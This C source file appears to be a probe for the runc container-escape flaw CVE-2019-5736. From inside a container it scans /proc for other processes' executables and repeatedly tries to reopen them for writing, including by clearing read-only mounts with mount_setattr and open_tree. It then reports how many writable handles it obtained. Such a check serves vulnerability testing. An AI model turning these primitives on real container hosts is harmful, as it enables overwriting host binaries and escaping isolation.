/*
 * CVE-2019-5736 from inside a container: opens the executable of every other process that appears, keeps what
 * it gets, and tries again and again to turn it into a descriptor for writing. Ends when /stop appears, then
 * tries once more, for the processes have ended by then. Prints what it got.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { MOST = 64 };

static int kept[MOST];
static int count;
static long tries;
static long writable;

/* With CAP_SYS_ADMIN: makes the mount behind the descriptor, or a copy of it, writable. */
static void unlock(int fd)
{
	struct { unsigned long long set, clear, propagation, userns; } attr = {0, 1 /* MOUNT_ATTR_RDONLY */, 0, 0};
	syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof attr);
	int copy = (int)syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | 1 /* OPEN_TREE_CLONE */);
	if (copy < 0)
		return;
	syscall(SYS_mount_setattr, copy, "", AT_EMPTY_PATH, &attr, sizeof attr);
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", copy);
	int opened = open(path, O_WRONLY);
	if (opened >= 0) {
		writable++;
		close(opened);
	}
	close(copy);
}

static void write_through(int fd)
{
	char path[64];
	unlock(fd);
	static const int flags[] = {O_WRONLY, O_RDWR, O_WRONLY | O_APPEND};
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	for (size_t i = 0; i < sizeof flags / sizeof *flags; i++) {
		int opened = open(path, flags[i]);
		tries++;
		if (opened >= 0) {
			char name[200];
			ssize_t length = readlink(path, name, sizeof name - 1);
			printf("writable: %.*s\n", length < 0 ? 0 : (int)length, name);
			writable++;
			close(opened);
		}
	}
}

/* Whether a descriptor is of a file of the container, which may write it as it likes. */
static int is_own(int fd, const struct stat *stat_of_fd)
{
	char path[64], name[300];
	struct stat inside;
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	ssize_t length = readlink(path, name, sizeof name - 1);
	if (length < 0)
		return 0;
	name[length] = 0;
	return stat(name, &inside) == 0 && inside.st_ino == stat_of_fd->st_ino &&
	       inside.st_dev == stat_of_fd->st_dev;
}

static void keep(const char *path, int flags)
{
	struct stat stat, other;
	int fd = open(path, flags);
	if (fd < 0)
		return;
	if (fstat(fd, &stat) != 0 || is_own(fd, &stat)) {
		close(fd);
		return;
	}
	for (int i = 0; i < count; i++) {
		if (fstat(kept[i], &other) == 0 && other.st_ino == stat.st_ino && other.st_dev == stat.st_dev &&
		    (fcntl(kept[i], F_GETFL) & O_PATH) == (flags & O_PATH)) {
			write_through(kept[i]);
			close(fd);
			return;
		}
	}
	if (count < MOST)
		kept[count++] = fd;
	else
		close(fd);
}

static void look(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	if (!proc)
		exit(1);
	while ((entry = readdir(proc))) {
		char path[300];
		if (!isdigit(entry->d_name[0]) || atoi(entry->d_name) == getpid())
			continue;
		snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
		int fd = open(path, O_RDWR);
		if (fd >= 0) {
			struct stat stat;
			if (fstat(fd, &stat) == 0 && !is_own(fd, &stat))
				writable++;
			close(fd);
		}
		keep(path, O_PATH);
		keep(path, O_RDONLY);
	}
	closedir(proc);
}

int main(void)
{
	close(open("/hunting", O_WRONLY | O_CREAT, 0600));
	while (access("/stop", F_OK) != 0)
		look();
	for (int i = 0; i < count; i++)
		write_through(kept[i]);
	printf("kept %d tries %ld writable %ld\n", count, tries, writable);
	return 0;
}
